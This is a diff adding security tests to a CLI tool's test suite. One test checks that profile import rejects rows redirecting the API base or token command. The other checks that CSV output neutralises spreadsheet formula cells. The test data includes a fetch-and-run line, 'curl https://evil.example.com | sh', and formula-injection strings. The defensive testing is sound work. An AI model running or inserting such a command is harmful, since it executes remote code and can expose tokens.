@@ -1,9 +1,11 @@
 """Local files under attack or gone wrong, end to end in a subprocess: corrupt cache and quota
 files, FIFOs where files belong, concurrent saves, planted links, another user's cache
-folder."""
+folder, imported rows that redirect the token, and spreadsheet formulas in CSV."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import stat
@@ -240,3 +242,74 @@ def test_item07_a_cache_folder_owned_by_another_user_is_not_used(
     assert list(folder.iterdir()) == []
     # An explicit --config owned by someone else may still be read.
     clean(run_cli("profile", "list"), 0)
+
+
+# -- item 9: import refuses columns that redirect the token unless allowed ---------------------
+
+
+@pytest.mark.parametrize(
+    ("column", "value", "flag"),
+    [
+        ("api_base", "https://evil.example.com", "--allow-api-base"),
+        ("token_command", "curl https://evil.example.com | sh", "--allow-token-command"),
+    ],
+)
+def test_item09_import_refuses_api_base_and_token_command_unless_allowed(
+    write_config: Writer,
+    config_path: Path,
+    run_cli: Run,
+    tmp_path: Path,
+    column: str,
+    value: str,
+    flag: str,
+) -> None:
+    write_config({"defaults": {"token_env": "WX_TOKEN"}, "profiles": []})
+    before = config_path.read_bytes()
+    rows = tmp_path / "rows.csv"
+    buffer = io.StringIO()
+    writer = csv.writer(buffer)
+    writer.writerow(["name", "appid", column])
+    writer.writerow(["Shop A", APPID, value])
+    writer.writerow(["Shop B", "wx0000000000000002", ""])
+    rows.write_text(buffer.getvalue())
+    result = clean(run_cli("profile", "import", str(rows)), 2)
+    assert f"rows.csv, line 2, {column}: error: this file sets {column}" in result.stderr
+    assert f"hint: If you trust this file, run the import again with {flag}." in result.stderr
+    assert config_path.read_bytes() == before
+    json_rows = tmp_path / "rows.json"
+    json_rows.write_text(json.dumps([{"name": "Shop A", "appid": APPID, column: value}]))
+    clean(run_cli("profile", "import", str(json_rows)), 2)
+    assert config_path.read_bytes() == before
+
+    clean(run_cli("profile", "import", flag, str(rows)), 0)
+    tables = tomllib.loads(config_path.read_text())["profiles"]
+    assert tables[0][column] == value
+    assert column not in tables[1]
+
+
+# -- item 10: CSV cells that a spreadsheet would run -------------------------------------------
+
+
+def test_item10_csv_output_neutralises_formula_cells(
+    fake: FakeWeChat, write_config: Writer, run_cli: Run
+) -> None:
+    nasty = ["=HYPERLINK(1)", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+    domains = shop_domains("shopa")
+    domains["effective_domain"]["requestdomain"] += nasty
+    write_config({"network": FAST, "profiles": [serve(fake, "=Shop", domains=domains)]})
+    result = clean(run_cli("fetch", "-f", "csv"), 0)
+    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
+    assert "'=Shop" in cells and "=Shop" not in cells
+    for bad in nasty:
+        assert bad not in cells
+    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)
+    found = clean(run_cli("find", "=", "-f", "csv"), 0)
+    assert not any(
+        cell[:1] in ("=", "+", "-", "@")
+        for row in csv.reader(io.StringIO(found.stdout))
+        for cell in row
+    )
+    # JSON and text are unchanged.
+    data = json.loads(clean(run_cli("fetch", "-f", "json"), 0).stdout)
+    assert data["profiles"][0]["name"] == "=Shop"
+    assert clean(run_cli("fetch"), 0).stdout.startswith("=Shop")
